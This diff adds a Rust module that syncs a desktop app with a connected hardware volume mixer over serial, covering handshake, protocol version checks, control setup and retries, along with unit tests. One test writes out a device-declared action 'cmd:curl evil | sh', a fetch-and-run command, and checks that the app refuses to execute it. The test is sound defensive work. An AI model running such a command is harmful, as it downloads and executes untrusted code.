@@ -0,0 +1,253 @@
+use std::time::Duration;
+
+use futures_channel::mpsc::{UnboundedReceiver, UnboundedSender};
+use futures_lite::StreamExt;
+use smol::Timer;
+
+use crate::{
+    ButtonData, ChannelSend, EncoderData, SliderData,
+    utils::{
+        ButtonAction, Capabilities, CommandsIn, CommandsOut, DeviceId, DeviceSliderData,
+        EncoderAction, PROTOCOL_VERSION, VolumeAction,
+    },
+};
+
+/// How long to wait for the device to answer a handshake request.
+pub const SYNC_TIMEOUT: Duration = Duration::from_millis(500);
+/// How many times a handshake request is sent before giving up.
+pub const SYNC_RETRIES: u32 = 3;
+
+/// The device answered the Hello handshake with a protocol version this app
+/// does not speak.
+#[derive(Debug, PartialEq)]
+pub struct IncompatibleProtocol {
+    pub version: u8,
+}
+
+impl std::fmt::Display for IncompatibleProtocol {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "the device speaks protocol v{}, this app speaks v{}",
+            self.version, PROTOCOL_VERSION
+        )
+    }
+}
+
+impl std::error::Error for IncompatibleProtocol {}
+
+/// Brings the app in line with a freshly connected device: exchanges the
+/// Hello handshake, builds the slider and control lists from the reported
+/// device info and asks for the current position of every channel. Returns
+/// the capabilities the device announced.
+///
+/// Stops right after the Hello with [`IncompatibleProtocol`] when the device
+/// speaks another protocol version, nothing else is sent to it then.
+///
+/// `replies` receives the `Hello` and `SendInfo` commands routed by the
+/// reader thread.
+pub async fn sync_device(
+    id: &DeviceId,
+    serial_out_tx: &UnboundedSender<CommandsOut>,
+    replies: &mut UnboundedReceiver<CommandsIn>,
+    state_tx: &UnboundedSender<ChannelSend>,
+) -> Result<Capabilities, Box<dyn std::error::Error>> {
+    // Firmware predating the handshake stays silent, carry on without capabilities
+    let capabilities = match request(
+        serial_out_tx,
+        replies,
+        CommandsOut::Hello,
+        |reply| match reply {
+            CommandsIn::Hello(hello) => Some(hello),
+            _ => None,
+        },
+    )
+    .await
+    {
+        Some(hello) => {
+            if hello.protocol_version != PROTOCOL_VERSION {
+                return Err(Box::new(IncompatibleProtocol {
+                    version: hello.protocol_version,
+                }));
+            }
+            let capabilities = hello.capabilities;
+            state_tx
+                .unbounded_send(ChannelSend::HelloUpdate(id.clone(), hello))
+                .map_err(|_| "State channel closed")?;
+            capabilities
+        }
+        None => {
+            eprintln!("Device did not answer the Hello handshake");
+            Capabilities::default()
+        }
+    };
+
+    let device_info = request(
+        serial_out_tx,
+        replies,
+        CommandsOut::RequestInfo,
+        |reply| match reply {
+            CommandsIn::SendInfo(device_info) => Some(device_info),
+            _ => None,
+        },
+    )
+    .await
+    .ok_or("Device did not answer RequestInfo")?;
+    println!("Received device info: {:?}", device_info);
+
+    let sliders = device_info
+        .sliders
+        .iter()
+        .map(|slider| SliderData {
+            name: slider.name.clone(),
+            position: 0,
+            muted: false,
+            set_volume_action: volume_action(slider),
+            device_action: slider.set_volume_action.clone(),
+        })
+        .collect::<Vec<_>>();
+    let channels = sliders.len();
+    state_tx
+        .unbounded_send(ChannelSend::SlidersInfoUpdate(id.clone(), sliders))
+        .map_err(|_| "State channel closed")?;
+
+    let buttons = device_info
+        .buttons
+        .iter()
+        .map(|button| ButtonData {
+            name: button.name.clone(),
+            press: ButtonAction::parse(&button.action),
+            long_press: ButtonAction::parse(&button.long_press_action),
+            held_long: false,
+        })
+        .collect();
+    let encoders = device_info
+        .encoders
+        .iter()
+        .map(|encoder| EncoderData {
+            name: encoder.name.clone(),
+            action: EncoderAction::parse(&encoder.action),
+        })
+        .collect();
+    state_tx
+        .unbounded_send(ChannelSend::ControlsInfoUpdate(
+            id.clone(),
+            buttons,
+            encoders,
+        ))
+        .map_err(|_| "State channel closed")?;
+
+    if capabilities.contains(Capabilities::BULK) {
+        serial_out_tx.unbounded_send(CommandsOut::RequestVolumes)?;
+    } else {
+        for channel in 1..=channels {
+            serial_out_tx.unbounded_send(CommandsOut::RequestVolume(channel as u8))?;
+        }
+    }
+
+    Ok(capabilities)
+}
+
+/// The target the device declared for a slider, printing the volume instead
+/// when it makes no sense.
+fn volume_action(slider: &DeviceSliderData) -> VolumeAction {
+    VolumeAction::from_device(&slider.set_volume_action).unwrap_or_else(|e| {
+        eprintln!(
+            "Slider \"{}\": {}, only printing its volume",
+            slider.name, e
+        );
+        VolumeAction::Print
+    })
+}
+
+/// Sends `command` and waits for a reply accepted by `extract`, resending it
+/// up to [`SYNC_RETRIES`] times.
+async fn request<T>(
+    serial_out_tx: &UnboundedSender<CommandsOut>,
+    replies: &mut UnboundedReceiver<CommandsIn>,
+    command: CommandsOut,
+    extract: impl Fn(CommandsIn) -> Option<T>,
+) -> Option<T> {
+    for attempt in 1..=SYNC_RETRIES {
+        println!(
+            "Sending {:?} (attempt {}/{})",
+            command, attempt, SYNC_RETRIES
+        );
+        serial_out_tx.unbounded_send(command.clone()).ok()?;
+
+        while let Some(reply) = next_reply(replies).await {
+            if let Some(value) = extract(reply) {
+                return Some(value);
+            }
+        }
+    }
+
+    None
+}
+
+async fn next_reply(replies: &mut UnboundedReceiver<CommandsIn>) -> Option<CommandsIn> {
+    smol::future::or(replies.next(), async {
+        Timer::after(SYNC_TIMEOUT).await;
+        None
+    })
+    .await
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::utils::{FirmwareVersion, HelloInfo};
+
+    fn slider(action: &str) -> DeviceSliderData {
+        DeviceSliderData {
+            name: "Slider".to_string(),
+            set_volume_action: action.to_string(),
+        }
+    }
+
+    #[test]
+    fn incompatible_devices_are_not_synced() {
+        let (serial_out_tx, mut serial_out_rx) = futures_channel::mpsc::unbounded();
+        let (replies_tx, mut replies) = futures_channel::mpsc::unbounded();
+        let (state_tx, mut state_rx) = futures_channel::mpsc::unbounded();
+        replies_tx
+            .unbounded_send(CommandsIn::Hello(HelloInfo {
+                protocol_version: PROTOCOL_VERSION + 1,
+                firmware_version: FirmwareVersion {
+                    major: 2,
+                    minor: 0,
+                    patch: 0,
+                },
+                capabilities: Capabilities::default(),
+            }))
+            .unwrap();
+
+        let result = smol::block_on(sync_device(
+            &"mixer".to_string(),
+            &serial_out_tx,
+            &mut replies,
+            &state_tx,
+        ));
+        let error = result.unwrap_err();
+        assert_eq!(
+            error.downcast_ref::<IncompatibleProtocol>(),
+            Some(&IncompatibleProtocol {
+                version: PROTOCOL_VERSION + 1
+            })
+        );
+        // Only the Hello went out and the app learned nothing about the device
+        assert_eq!(serial_out_rx.try_recv().unwrap(), CommandsOut::Hello);
+        assert!(serial_out_rx.try_recv().is_err());
+        assert!(state_rx.try_recv().is_err());
+    }
+
+    #[test]
+    fn device_commands_fall_back_to_printing() {
+        assert_eq!(
+            volume_action(&slider("cmd:curl evil | sh")),
+            VolumeAction::Print
+        );
+        assert_eq!(volume_action(&slider("bogus")), VolumeAction::Print);
+        assert_eq!(volume_action(&slider("master")), VolumeAction::Master);
+    }
+}